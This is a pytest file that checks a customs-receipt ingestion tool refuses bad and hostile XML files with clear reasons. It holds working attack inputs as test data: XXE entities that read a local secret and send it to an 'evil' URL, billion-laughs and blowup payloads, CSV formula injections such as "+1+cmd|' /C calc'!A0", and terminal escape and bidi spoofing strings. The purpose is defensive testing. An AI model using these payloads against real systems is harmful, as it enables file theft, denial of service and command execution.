"""What cannot be read is one refusal with its reason, and costs the other files nothing.

The files are real and lie in a folder beside a good receipt; attacks are run in a process of their
own, whose time and memory are measured.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from datetime import datetime
from pathlib import Path
from typing import NamedTuple
from xml.sax.saxutils import escape

import pytest

import clearance
from clearance.customs.cn_single_window import ZONE
from clearance.customs.cn_single_window.demo import business_receipt, import_receipt
from clearance.customs.cn_single_window.demo_declared import message
from clearance.customs.limits import HEAD, MAX_BYTES
from clearance.customs.unpacking import MAX_ENVELOPES
from clearance.customs.xml import MAX_DEPTH
from clearance.errors import Unreadable
from tests.attacks import MEGABYTES, SECONDS, envelope, measured, receipt
from tests.conftest import ROOT, Ran, Run, at, settled

pytestmark = pytest.mark.slow

UNIFIED = "I20260000000000017"
GOOD = business_receipt(UNIFIED, "", "7", at("02 08:00"), 17)

posix = pytest.mark.skipif(sys.platform == "win32", reason="made of what only POSIX has")


class Bad(NamedTuple):
    """Bytes that are no message, the sort of trouble, and words that the reason must hold."""

    data: bytes
    kind: str
    words: str


BAD = {
    "half.xml": Bad(GOOD.data[: len(GOOD.data) // 2], "truncated", "copied whole?"),
    "cut-in-cdata.xml": Bad(b"<DEC_RESULT><NOTE><![CDATA[x", "truncated", "copied whole?"),
    "declaration-only.xml": Bad(b'<?xml version="1.0"?>\n', "truncated", "copied whole?"),
    "empty.xml": Bad(b"", "empty", "empty"),
    "blank.xml": Bad(b" \r\n\t\r\n", "empty", "empty"),
    "mark-only.xml": Bad(b"\xef\xbb\xbf", "empty", "empty"),
    "letter.xml": Bad(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", "binary", "a PDF"),
    "scan": Bad(b"\xff\xd8\xff\xe0\x00\x10JFIF", "binary", "a JPEG picture"),
    "shot.xml": Bad(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "binary", "a PNG picture"),
    "old.xml": Bad(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "binary", "Office"),
    "pack.rar": Bad(b"Rar!\x1a\x07\x01\0", "binary", "a RAR archive"),
    "pack.7z": Bad(b"7z\xbc\xaf\x27\x1c\0\4", "binary", "a 7-Zip archive"),
    "pack.gz": Bad(b"\x1f\x8b\x08\0\0\0\0\0", "binary", "a gzip archive"),
    "answer.xml": Bad(b'{"code": 0}', "binary", "JSON"),
    "noise.xml": Bad(bytes(range(256)), "binary", "not XML"),
    "notes.txt": Bad("今天没有回执".encode(), "binary", "not XML"),
    "login.xml": Bad(b"<!DOCTYPE html>\n<html><body>", "html", "log-in page"),
    "page.xml": Bad(b"\xef\xbb\xbf <HTML><head/></HTML>", "html", "log-in page"),
    "order.xml": Bad(b"<Order><No>1</No></Order>", "unknown_root", "<Order>"),
    "transit.xml": Bad(b"<TRN_DATA/>", "not_yet", "转关"),
    "wrong-end.xml": Bad(b"<DEC_RESULT><NOTE></DEC_RESULT>", "malformed", "line 1"),
    "undefined.xml": Bad(b"<DEC_RESULT>&nbsp;</DEC_RESULT>", "malformed", "undefined entity"),
    "escape.xml": Bad(receipt(NOTE="&#x1b;[2J"), "malformed", "line 1"),
    "time.xml": Bad(receipt(NOTICE_DATE="soon"), "bad_time", "NOTICE_DATE is 'soon'"),
    "no-time.xml": Bad(receipt(NOTICE_DATE=""), "bad_time", "NOTICE_DATE is empty"),
    "no-number.xml": Bad(receipt(CUS_CIQ_NO=""), "no_number", "without any number"),
    "no-code.xml": Bad(receipt(CHANNEL=""), "bad_value", "CHANNEL is empty"),
    "two-codes.xml": Bad(receipt(A="</A><CHANNEL>P</CHANNEL><A>"), "bad_value", "occurs twice"),
    "entry.xml": Bad(receipt(CUS_CIQ_NO="", ENTRY_ID="22 48"), "bad_value", "ENTRY_ID is '22 48'"),
    "client.xml": Bad(b"<Root><failCode>C1</failCode></Root>", "no_number", "file name"),
    "gbk.xml": Bad(
        '<?xml version="1.0" encoding="UTF-8"?><DEC_RESULT>报关</DEC_RESULT>'.encode("gbk"),
        "encoding",
        "not utf-8",
    ),
    "ebcdic.xml": Bad(b'<?xml version="1.0" encoding="cp037"?><x/>', "encoding", "'cp037'"),
    "hollow.xml": Bad(b"<DxpMsg><Data/></DxpMsg>", "empty", "carries no Data"),
    "garbled.xml": Bad(b"<DxpMsg><Data>~~~</Data></DxpMsg>", "bad_value", "not base64"),
}
"""Each under the name it lies in the folder as."""


def test_each_of_many_bad_files_is_one_refusal_and_the_good_one_is_read(
    run: Run, tmp_path: Path
) -> None:
    inbox = tmp_path / "InBox"
    inbox.mkdir()
    (inbox / GOOD.name).write_bytes(GOOD.data)
    for name, bad in BAD.items():
        (inbox / name).write_bytes(bad.data)
        settled(inbox / name)
    done = run("ingest", inbox, "--format", "json")
    assert done.code == 3
    said = done.json
    assert [said[k] for k in ("read", "new", "refused", "duplicate")] == [
        len(BAD) + 1,
        1,
        len(BAD),
        0,
    ]
    assert sorted(one["name"] for one in said["refusals"]) == sorted(BAD)
    lines = done.talk.splitlines()
    assert sorted(line.split(": ")[1] for line in lines) == sorted(BAD)
    assert all(line.startswith("refused: ") for line in lines)
    again = run("ingest", inbox, "--format", "json")
    assert (again.code, again.json["duplicate"], again.json["refused"]) == (0, len(BAD) + 1, 0)
    assert again.err == b""


@pytest.mark.parametrize("name", BAD)
def test_a_bad_file_is_kept_with_a_reason_that_a_clerk_understands(
    call: Run, tmp_path: Path, home: Path, name: str
) -> None:
    data, kind, words = BAD[name]
    inbox = tmp_path / "InBox"
    inbox.mkdir()
    (inbox / GOOD.name).write_bytes(GOOD.data)
    (inbox / name).write_bytes(data)
    settled(inbox / name)
    done = call("ingest", inbox, "--format", "json")
    assert done.code == 3
    said = done.json
    assert [said[k] for k in ("read", "new", "refused", "events", "declarations")] == [
        2,
        1,
        1,
        1,
        1,
    ]
    [told] = said["refusals"]
    assert words in told["reason"]
    assert len(told["reason"]) < 200
    assert done.talk == f"refused: {name}: {told['reason']}\n"

    assert call("status", UNIFIED).code == 0
    [listed] = call("refused", "--format", "json").json["refused"]
    assert (listed["id"], listed["name"], listed["reason"]) == (told["id"], name, told["reason"])
    assert (listed["kind"], listed["size"]) == (kind, len(data))
    with clearance.open_store(str(home / "clearance.db")) as store:
        [kept] = store.refused()
        assert kept.data == data
    shown = call("refused", "show", told["id"])
    assert shown.code == 0
    assert told["reason"] in shown.text

    again = call("ingest", inbox, "--format", "json")
    assert (again.code, again.json["duplicate"], again.json["refused"]) == (0, 2, 0)
    assert again.err == b""


def _dated() -> dict[str, bytes]:
    """Messages that bear a moment or a day beside their own time, each by a name, with ``AT`` in
    the place of one.
    """
    found = {
        "signed.xml": message({"IEFlag": "I"}, [], sign={"ClientSeqNo": "A1", "SignDate": "AT"})
    }
    dated = re.compile(rb"(?<=>)[0-9]{4}-?[0-9]{2}-?[0-9]{2}[^<>]*(?=</([^>]+)>)")
    for file in sorted((ROOT / "samples").rglob("*.xml")):
        data = file.read_bytes()
        for place in dated.finditer(data):
            key = f"{file.parts[-3]}-{place[1].decode().replace(':', '')}.xml"
            found.setdefault(key, data[: place.start()] + b"AT" + data[place.end() :])
    return found


@pytest.mark.parametrize(
    "written",
    ["%", "T", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "00010101000000"],
)
def test_a_time_that_is_none_stops_nothing_wherever_it_stands(
    run: Run, tmp_path: Path, written: str
) -> None:
    """Some were kept as they stood, and ended the run, and every later one, in a traceback."""
    some = {name: data.replace(b"AT", written.encode()) for name, data in _dated().items()}
    for name, data in some.items():
        (tmp_path / name).write_bytes(data)
    ran = run("ingest", tmp_path, "--format", "json")
    assert ran.code in (0, 3), ran.talk
    assert ran.json["read"] == len(some)


def test_a_bad_file_on_standard_input_is_refused_too(run: Run) -> None:
    done = run("ingest", "-", "--format", "json", stdin=b"%PDF-1.7")
    assert (done.code, done.json["read"], done.json["refused"]) == (3, 1, 1)
    assert done.talk.startswith("refused: stdin: a PDF, not an XML message; do this: ")


def test_numbers_that_contradict_each_other_count_in_the_order_of_their_rank() -> None:
    """The data centre's own number before a serial number, customs' number before both."""
    numbers = {"CUS_CIQ_NO": "I20260000000000017", "SEQ_NO": "E20260000000000025"}
    (event,) = clearance.parse(receipt(**numbers))
    assert dict(event.facts)["direction"] == "import"
    (event,) = clearance.parse(receipt(**numbers, ENTRY_ID="530420260000000017"))
    assert dict(event.facts)["direction"] == "export"


def test_the_office_is_that_of_the_declaration_before_that_of_its_port() -> None:
    for order in ({"DECL_PORT": "5304", "CUSTOM_MASTER": "2248"}, {"DECL_PORT": "5304"}):
        (event,) = clearance.parse(receipt(**order))
        assert dict(event.facts)["office"] == order.get("CUSTOM_MASTER", "5304")


def test_of_two_bad_numbers_the_first_is_named() -> None:
    with pytest.raises(Unreadable, match="CUS_CIQ_NO is 'no'"):
        clearance.parse(receipt(CUS_CIQ_NO="no", ENTRY_ID="neither"))


@pytest.mark.parametrize("inside", ["<DEC_RESULT/>", "<DEC_RESULT>text</DEC_RESULT>"])
def test_an_old_receipt_without_anything_in_it_has_no_number(inside: str) -> None:
    with pytest.raises(Unreadable, match="without any number"):
        clearance.parse(f"<DEC_DATA>{inside}</DEC_DATA>".encode())


def test_a_long_value_does_not_make_a_long_reason() -> None:
    twice = b"<DEC_RESULT><NOTE>%b</NOTE><NOTE>b</NOTE></DEC_RESULT>" % (b"a" * 100_000)
    for data in (
        twice,
        receipt(NOTICE_DATE="9" * 100_000),
        receipt(CUS_CIQ_NO="", ENTRY_ID="9" * 100_000),
        receipt(CUS_CIQ_NO="9" * 100_000),
        receipt(D_DATE="9" * 100_000),
        b"<%b/>" % (b"a" * 100_000),
    ):
        with pytest.raises(Unreadable) as refused:
            clearance.parse(data)
        assert len(str(refused.value)) < 300


@posix
def test_files_that_cannot_be_opened_are_each_a_refusal_of_their_own(
    call: Run, tmp_path: Path
) -> None:
    """Two links that lead nowhere beside an empty file: no bytes in any, three troubles."""
    inbox = tmp_path / "InBox"
    inbox.mkdir()
    (inbox / "a.xml").symlink_to(tmp_path / "gone-a")
    (inbox / "b.xml").symlink_to(tmp_path / "gone-b")
    (inbox / "c.xml").touch()
    settled(inbox / "c.xml")
    done = call("ingest", inbox, "--format", "json")
    assert (done.code, done.json["read"], done.json["refused"]) == (3, 3, 3)
    reasons = {one["name"]: one["reason"] for one in done.json["refusals"]}
    nowhere = "cannot be opened: this link leads nowhere; do this: put right the link, or remove it"
    assert reasons["a.xml"] == reasons["b.xml"] == nowhere
    assert "empty" in reasons["c.xml"]


@posix
@pytest.mark.parametrize(
    ("line", "code", "told"),
    [
        (("ingest", "loop"), 3, "refused: loop/loop: cannot be opened: this link leads nowhere"),
        (("ingest", "InBox", "--archive", "loop"), 2, "--archive loop: is no folder"),
        (("ingest", "--archive", "loop"), 2, "--archive loop: is no folder"),
        (("watch", "InBox", "--archive", "loop"), 2, "--archive loop: is no folder"),
        (("ingest",), 3, "sources.loop: {loop} cannot be read"),
        (("sources", "find"), 1, "was not found"),
        (("status", "1", "--store", "loop"), 1, "loop: Too many levels of symbolic links"),
        (("config", "show", "--config", "loop"), 2, "loop cannot be read"),
    ],
)
def test_a_link_that_leads_back_to_itself_is_told_wherever_it_is_named(
    call: Run,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    line: tuple[str, ...],
    code: int,
    told: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    loop = tmp_path / "loop"
    loop.symlink_to("loop")
    (tmp_path / "InBox").mkdir()
    (tmp_path / "set.toml").write_text(
        "".join(
            f'[sources.{name}]\nkind = "folder"\npath = "{tmp_path / name}"\n'
            for name in ("loop", "InBox")
        ),
        encoding="utf-8",
    )
    set_ = () if "--config" in line else ("--config", "set.toml")
    done = call(*line, *set_)
    assert done.code == code
    assert told.format(loop=loop) in done.talk


NOBODY = "~nobody-here/in"


@posix
@pytest.mark.parametrize(
    "line",
    [
        ("ingest", NOBODY),
        ("ingest", "InBox", "--archive", NOBODY),
        ("watch", NOBODY),
        ("watch", "InBox", "--archive", NOBODY),
        ("cron", NOBODY),
        ("cron", "InBox", "--archive", NOBODY),
        ("status", "1", "--store", NOBODY),
    ],
)
def test_a_home_that_nobody_knows_is_told_wherever_a_place_may_stand(
    call: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: tuple[str, ...]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "InBox").mkdir()
    done = call(*line)
    assert (done.code, done.talk) == (
        2,
        f"clearance: {NOBODY}: that home directory is not known\n",
    )


@posix
def test_a_source_in_a_home_that_nobody_knows_keeps_nothing_else_from_its_work(
    call: Run, tmp_path: Path
) -> None:
    """It may be a server of users that does not answer now."""
    inbox = tmp_path / "InBox"
    inbox.mkdir()
    (inbox / GOOD.name).write_bytes(GOOD.data)
    (tmp_path / "set.toml").write_text(
        f'[sources.first]\nkind = "folder"\npath = "{NOBODY}"\n'
        f'[sources.second]\nkind = "folder"\npath = "{inbox}"\n',
        encoding="utf-8",
    )
    settings = ("--config", tmp_path / "set.toml")
    done = call("ingest", *settings, "--format", "json")
    assert (done.code, done.json["new"]) == (3, 1)
    assert f"sources.first: {NOBODY} cannot be read" in done.talk
    assert call("check", *settings).code == 0
    listed = call("sources", "list", *settings, "--format", "csv").text
    assert NOBODY in listed


@pytest.mark.skipif(sys.platform != "linux", reason="file names are text elsewhere")
@pytest.mark.parametrize("form", ["table", "json", "jsonl", "csv"])
def test_a_file_name_that_is_no_text_stops_nothing(run: Run, tmp_path: Path, form: str) -> None:
    """A name in GBK, copied from Windows to a share that is mounted as UTF-8."""
    inbox = tmp_path / "InBox"
    inbox.mkdir()
    for name, data in (("回执.xml", GOOD.data), ("坏.xml", b"oops")):
        Path(os.fsdecode(os.fsencode(inbox) + b"/" + name.encode("gbk"))).write_bytes(data)
    done = run("ingest", inbox, "--format", form)
    assert done.code == 3
    assert len(done.talk.splitlines()) == 1
    assert run("refused", "--format", form).code == 0
    assert run("status", UNIFIED, "--format", form).code == 0


# DOCTYPE and entities


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "haha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    + "]><DEC_RESULT><NOTE>&a10;</NOTE></DEC_RESULT>"
)


def attacks(secret: str, port: int) -> dict[str, bytes]:
    """Every way to have a parser expand or fetch something, by file name."""
    there = f"http://127.0.0.1:{port}/evil"
    body = "<DEC_RESULT><NOTE>&x;</NOTE></DEC_RESULT>"
    wide = f'<!DOCTYPE x [<!ENTITY x "{"A" * 100_000}">]><DEC_RESULT>{"&x;" * 100_000}</DEC_RESULT>'
    texts = {
        "laughs": LAUGHS,
        "quadratic": wide,
        "file": f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{secret}">]>{body}',
        "http": f'<!DOCTYPE x [<!ENTITY x SYSTEM "{there}">]>{body}',
        "public": f'<!DOCTYPE x [<!ENTITY x PUBLIC "-//x" "{there}">]>{body}',
        "dtd": f'<!DOCTYPE DEC_RESULT SYSTEM "{there}"><DEC_RESULT/>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{there}"> %p;]>{body}',
        "nested-parameter": (
            f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{secret}">'
            f"<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{there}?%f;'>\"> %e; %s;]>{body}"
        ),
        "bare": "<!DOCTYPE DEC_RESULT><DEC_RESULT/>",
        "after-comment": f"<?xml version='1.0'?><!-- x --><?y z?>{LAUGHS}",
        "cut": LAUGHS[:300],
    }
    written = {f"{name}.xml": text.encode() for name, text in texts.items()}
    written |= {f"{name}-utf16.xml": text.encode("utf-16") for name, text in texts.items()}
    big = "\ufeff" + f'<?xml version="1.0" encoding="UTF-16"?>{texts["http"]}'
    gbk = f'<?xml version="1.0" encoding="GBK"?><!-- 报关 -->{texts["http"]}'
    return written | {
        "big-endian.xml": big.encode("utf-16-be"),
        "gbk.xml": gbk.encode("gbk"),
        "marked.xml": b"\xef\xbb\xbf" + texts["http"].encode(),
        "enveloped.xml": envelope(texts["http"].encode() + b" "),
    }


@posix
def test_a_doctype_is_refused_before_anything_in_it_is_expanded_or_fetched(
    environment: Mapping[str, str], tmp_path: Path
) -> None:
    """A socket listens where the entities point to, and nobody comes."""
    secret = tmp_path / "secret"
    secret.write_text("the secret of the test")
    inbox = tmp_path / "InBox"
    inbox.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as listening:
        written = attacks(str(secret), listening.getsockname()[1])
        for name, data in written.items():
            (inbox / name).write_bytes(data)
        done, seconds, megabytes = measured(
            environment, tmp_path, "ingest", inbox, "--format", "json"
        )
        listening.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listening.accept()
    assert done.code == 3
    assert (done.json["read"], done.json["refused"]) == (len(written), len(written))
    reasons = {one["name"].partition("/")[0]: one["reason"] for one in done.json["refusals"]}
    what = "it contains a DOCTYPE, which no customs message has"
    assert reasons == dict.fromkeys(written, f"{what}; nothing to do: no customs message is so")
    assert b"the secret" not in done.out + done.err
    assert seconds < SECONDS
    assert megabytes < MEGABYTES


def test_a_doctype_that_is_only_text_is_only_text() -> None:
    [event] = clearance.parse(receipt(NOTE=f"<![CDATA[{LAUGHS}]]>"))
    assert event.note == LAUGHS


# Caps


def attributes() -> bytes:
    return b"<DEC_RESULT %b/>" % b" ".join(b'a%d=""' % n for n in range(1_400_000))


def failures() -> bytes:
    return b"<Root><failInfo>[%b]</failInfo></Root>" % b",".join([b"[]"] * 5_000_000)


def enveloped(times: int) -> bytes:
    data = receipt()
    for _ in range(times):
        data = envelope(data)
    return data


def called_at_length() -> bytes:
    held = [receipt(NOTE=str(n)) for n in range(100)]
    return envelope(*held, name="x" * 8_000_000)


ATTACKS: dict[str, tuple[bytes | Callable[[], bytes], int | None]] = {
    "nested.xml": (b"<a>" * 200_000 + b"</a>" * 200_000, 3),
    "flat.xml": (b"<DEC_RESULT>" + b"<a/>" * 3_000_000 + b"</DEC_RESULT>", 3),
    "envelopes.xml": (enveloped(26), 3),
    "attributes.xml": (attributes, 3),
    "Failed_OUT_20260302080000.xml": (failures, None),
    "called.xml": (called_at_length, None),
    "blanks.xml": (b"<DEC_RESULT>" + b" " * 15_000_000 + b"</DEC_RESULT>", 3),
    "text.xml": (receipt(NOTE="\U0001f600" + "x" * 15_000_000), 0),
    "minuses.xml": (b"<!--" + b"- " * 7_000_000, 3),
    "numbers.xml": (receipt(NOTE="I20260000000000017," * 600_000), 0),
}
"""Bytes, or what makes them, and the exit code; None where both reading and refusing are right."""


@posix
@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_takes_seconds_and_little_memory(
    environment: Mapping[str, str], tmp_path: Path, name: str
) -> None:
    made, code = ATTACKS[name]
    data = made if isinstance(made, bytes) else made()
    assert len(data) <= MAX_BYTES
    (tmp_path / name).write_bytes(data)
    settled(tmp_path / name)
    done, seconds, megabytes = measured(environment, tmp_path, "ingest", tmp_path / name)
    assert done.code in ((0, 3) if code is None else (code,))
    assert seconds < SECONDS
    assert megabytes < MEGABYTES


def test_elements_may_be_nested_to_the_cap_and_no_deeper() -> None:
    def nested(deep: int) -> bytes:
        return receipt(NOTE="x", DEEP="<a>" * (deep - 2) + "</a>" * (deep - 2))

    assert clearance.parse(nested(MAX_DEPTH))
    with pytest.raises(Unreadable, match="deep") as refused:
        clearance.parse(nested(MAX_DEPTH + 1))
    assert refused.value.reason == "too_deep"


def test_envelopes_may_lie_inside_each_other_to_the_cap_and_no_deeper() -> None:
    assert clearance.parse(enveloped(MAX_ENVELOPES))
    with pytest.raises(Unreadable, match="envelopes") as refused:
        clearance.parse(enveloped(MAX_ENVELOPES + 1))
    assert refused.value.reason == "too_deep"


def test_a_message_may_have_16_mb_and_not_a_byte_more(
    call: Run, tmp_path: Path, home: Path
) -> None:
    """Of the one that is too large its beginning is kept, and its true size told."""
    inbox = tmp_path / "InBox"
    inbox.mkdir()
    most = receipt().ljust(MAX_BYTES)
    (inbox / "most.xml").write_bytes(most)
    (inbox / "more.xml").write_bytes(most + b" ")
    done = call("ingest", inbox, "--format", "json")
    assert (done.code, done.json["new"], done.json["refused"]) == (3, 1, 1)
    with clearance.open_store(str(home / "clearance.db")) as store:
        [kept] = store.refused()
    assert (kept.name, kept.kind, kept.size) == ("more.xml", "too_large", MAX_BYTES + 1)
    assert kept.data == most[:HEAD]
    piped = call("ingest", "-", "--format", "json", stdin=most + b"  ")
    assert piped.json["refusals"][0]["reason"].startswith(f"{MAX_BYTES + 2} bytes")


# Times


READ = {
    "2026-03-02T08:00:00": "2026-03-02T08:00:00",
    "2026-03-02 08:00:00": "2026-03-02T08:00:00",
    "2026-03-02T08:00:00.670+08:00": "2026-03-02T08:00:00",
    "2026-03-02T08:00:00+0800": "2026-03-02T08:00:00",
    "2026-03-02T08:00:00.000+00:00": "2026-03-02T08:00:00",
    "2026-03-02T08:00:00+0000": "2026-03-02T08:00:00",
    "2026-03-02T00:00:00Z": "2026-03-02T08:00:00",
    "2026-03-02T09:00:00+09:00": "2026-03-02T08:00:00",
    "20260302T080000": "2026-03-02T08:00:00",
    "20260302T08000099": "2026-03-02T08:00:00",
    "20260302080000": "2026-03-02T08:00:00",
    "20260302080000123": "2026-03-02T08:00:00",
    "20260302080000123456789": "2026-03-02T08:00:00",
    " \n 2026-03-02T08:00:00 \n ": "2026-03-02T08:00:00",
    "2026-12-31T23:59:59": "2026-12-31T23:59:59",
    "2024-02-29T00:00:00": "2024-02-29T00:00:00",
}
"""A ``NOTICE_DATE`` as written, and when that was in Beijing; ``+00:00`` is false, others true."""

NOT_READ = (
    "2026-13-01T08:00:00",
    "20261301080000",
    "2026-02-30T08:00:00",
    "20260230T080000",
    "2025-02-29T08:00:00",
    "2026-03-02T24:61:00",
    "2026-03-02T24:00:00",
    "20260302246100",
    "2026-03-02T08:00:60",
    "2026-00-00T00:00:00",
    "0000-00-00 00:00:00",
    "0001-01-01T00:00:00",
    "9999-12-31T23:59:59-12:00",
    "",
    " ",
    "today",
    "2026年3月2日",
    "2026-03-02",
    "20260302",
    "2026/03/02 08:00:00",
    "2026-3-2 8:00:00",
    "2026-03-02T08:00",
    "202603020800",
    "2026-03-02T08:00:00+25:00",
    "2026-03-02T08:00:00 CST",
    "2026-03-02T08:00:00.",
    "-2026-03-02T08:00:00",
    "1772409600",
    "２０２６０３０２０８００００",
    "２０２６-０３-０２T０８:００:００",
    "٢٠٢٦٠٣٠٢٠٨٠٠٠٠",
)


@pytest.mark.parametrize("written", READ)
def test_a_time_is_read_in_every_form_that_was_seen(written: str) -> None:
    [event] = clearance.parse(receipt(NOTICE_DATE=written))
    assert event.at == datetime.fromisoformat(READ[written]).replace(tzinfo=ZONE)
    assert event.at.utcoffset() == ZONE.utcoffset(None)


@pytest.mark.parametrize("written", NOT_READ)
def test_an_impossible_time_is_refused_and_never_repaired(written: str) -> None:
    with pytest.raises(Unreadable, match="NOTICE_DATE is") as refused:
        clearance.parse(receipt(NOTICE_DATE=written))
    assert refused.value.reason == "bad_time"


@pytest.mark.parametrize("tag", ["D_DATE", "I_E_DATE"])
@pytest.mark.parametrize("written", ["20261301", "2026-02-30", "tomorrow", "２０２６０３０２"])
def test_an_impossible_date_is_refused_too(tag: str, written: str) -> None:
    with pytest.raises(Unreadable, match=f"{tag} is") as refused:
        clearance.parse(receipt(**{tag: written}))
    assert refused.value.reason == "bad_time"


@pytest.mark.parametrize(
    ("declaration", "codec"),
    [
        ('<?xml version="1.0" encoding="UTF-8"?>', "utf-8"),
        ('<?xml version="1.0" encoding="UTF-8"?>', "utf-8-sig"),
        ('<?xml version="1.0" encoding="GB2312"?>', "gb2312"),
        ('<?xml version="1.0" encoding="gbk"?>', "gbk"),
        ("<?xml version='1.0' encoding='utf-8'?>", "utf-8"),
        ('<?xml version="1.0" encoding="UTF-8" standalone ="yes"?>', "utf-8"),
        ('\r\n <?xml version="1.0" encoding="UTF-8"?>', "utf-8"),
        ("", "utf-8"),
        ("", "gbk"),
        ("", "utf-16"),
    ],
)
def test_a_note_reads_alike_in_every_encoding_that_was_seen(declaration: str, codec: str) -> None:
    text = declaration + receipt(NOTE="报关单放行").decode()
    [event] = clearance.parse(text.encode(codec))
    assert event.note == "报关单放行"


# Customs text


NOTES = {
    "closing": "[/x]",
    "markup": "[red]查验[/red] [link=http://x]y[/link]",
    "template": "{note} {0} {code!r} %s %(x)s",
    "csi": "before\u009b2J\u009b31mafter\u0090q\u009c",
    "bidi": "abc\u202egnp.exe\u2066\u2069\u200b\ufeff",
    "formula": "=cmd()",
    "plus": "+1+cmd|' /C calc'!A0",
    "lines": "one\ntwo\r\nthree\u2028four\x85five\tsix",
    "long": "长" * 100_000,
    "wide": "x" * 100_000,
    "emoji": "\U0001f6a2 报关 é ﷺ \ue000",
}
"""Notes that a careless command would crash on, or send to the terminal."""

CODES = ("7", "E", "C", "z9", "\u009b7m")
"""Each note comes with codes that raise alerts, among them one that is no code."""

NAME = "\x1b[2J\x1b]0;evil\x07[/x]\u009b31m.xml"


@pytest.fixture
def told(call: Run, tmp_path: Path) -> dict[str, str]:
    """Reads receipts with every note, also in the place of the office.

    Gives the unified number of each by the note's name and the code.
    """
    inbox = tmp_path / "InBox"
    inbox.mkdir()
    numbers: dict[str, str] = {}
    for count, (name, note) in enumerate(NOTES.items(), 1):
        for place, code in enumerate(CODES):
            number = numbers[f"{name} {code}"] = f"I2026{count * 10 + place:013}"
            serial = count * 10 + place
            file = business_receipt(number, "", code, at("02 08:00"), serial, note=note)
            office = f"<CUSTOM_MASTER>{escape(note)}</CUSTOM_MASTER>".encode()
            data = file.data.replace(b"<CUSTOM_MASTER></CUSTOM_MASTER>", office)
            (inbox / file.name).write_bytes(data)
    number = numbers["own"] = "I20260000000009999"
    own = import_receipt("[/x]\u009b31m=cmd()", number, at("02 08:00"))
    (inbox / own.name.replace("[/x]", "")).write_bytes(own.data)
    if sys.platform != "win32":
        bad = inbox / "d" / NAME.replace("/", "")
        bad.parent.mkdir()
        bad.write_bytes(b"\x1b[2J\x9b31m [/x]\0" * 100)
    assert call("ingest", inbox).code in (0, 3)
    assert call("check", "--as-of", at("02 20:00").isoformat()).code == 0
    return numbers


_LOOP = """
import json, sys
from clearance.cli import main
for arguments in json.load(sys.stdin):
    code = main(arguments)
    for stream in sys.stdout, sys.stderr:
        stream.flush()
        stream.buffer.write(b"\\0%d\\0" % code)
        stream.flush()
"""


def several(environment: Mapping[str, str], commands: Sequence[Sequence[str]]) -> list[Ran]:
    """Runs commands one after the other in one process of their own."""
    done = subprocess.run(
        [sys.executable, "-c", _LOOP],
        input=json.dumps(commands).encode(),
        capture_output=True,
        check=False,
        timeout=120,
        env=dict(environment),
    )
    assert done.returncode == 0, done.stderr[-3000:].decode(errors="replace")
    outs, errs = (stream.split(b"\0")[:-1] for stream in (done.stdout, done.stderr))
    assert len(outs) == len(errs) == 2 * len(commands)
    return [Ran(int(outs[n + 1]), outs[n], errs[n]) for n in range(0, len(outs), 2)]


_STEERING = re.compile("[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]")


def harmless(data: bytes, codec: str) -> str:
    """Output as text, when nothing in it can steer a terminal."""
    assert b"\x1b" not in data
    text = data.decode(codec)
    assert not _STEERING.search(text), _STEERING.findall(text)
    assert "Traceback" not in text
    return text


@pytest.mark.parametrize("codec", ["utf-8", "gbk", "ascii"])
def test_no_command_crashes_on_customs_text_or_lets_it_steer_the_terminal(
    environment: Mapping[str, str], told: Mapping[str, str], codec: str
) -> None:
    refs = list(told.values())
    each = [
        ["status", *refs],
        ["list", "--events"],
        ["list", "--lang", "zh"],
        ["explain", *refs],
        ["check", "--dry-run", "--as-of", "2026-03-09T08:00:00"],
        ["alerts", "list"],
        ["alerts", "list", "--all", "--lang", "zh"],
        ["refused"],
        ["report", "--period", "2026Q1", "--by", "office,direction"],
    ]
    forms = ("table", "json", "jsonl", "csv")
    commands = [[*command, "--format", form] for command in each for form in forms]
    unknown = [["status", "\u009b31m[/x]\x1b[2J", "--format", form] for form in forms]
    show = [["refused", "show", "nothing\u009b"], ["ingest", "no\x1b[2Jwhere\u009b"]]
    env = {**environment, "PYTHONIOENCODING": codec}
    for command, ran in zip(commands, several(env, commands), strict=True):
        text = harmless(ran.out, codec if command[-1] == "table" else "utf-8")
        assert ran.code == 0, command
        assert harmless(ran.err, codec) == ""
        assert text.strip() or command[0] in ("refused", "check")
        for line in text.splitlines() if command[-1] in ("json", "jsonl") else ():
            assert isinstance(json.loads(line), dict)
    for command, ran in zip([*unknown, *show], several(env, [*unknown, *show]), strict=True):
        harmless(ran.out, "utf-8")
        assert len(harmless(ran.err, codec).splitlines()) == 1
        assert ran.code == (2 if command[0] == "ingest" else 1)


@pytest.mark.parametrize("name", NOTES)
def test_a_note_is_whole_in_json_whatever_it_holds(
    call: Run, told: Mapping[str, str], name: str
) -> None:
    ran = call("status", told[f"{name} E"], "--format", "json")
    [declaration] = ran.json["declarations"]
    written = NOTES[name].replace("\r\n", "\n")
    assert [event["note"] for event in declaration["events"]] == [written]
    [alert] = [one for one in declaration["alerts"] if one["rule"] == "returned"]
    assert written in alert["message"]


def test_no_cell_of_a_csv_is_a_formula(call: Run, told: Mapping[str, str]) -> None:
    for command in (("status", *told.values()), ("explain", *told.values()), ("alerts", "list")):
        text = call(*command, "--format", "csv").text
        csv.field_size_limit(1_000_000)
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


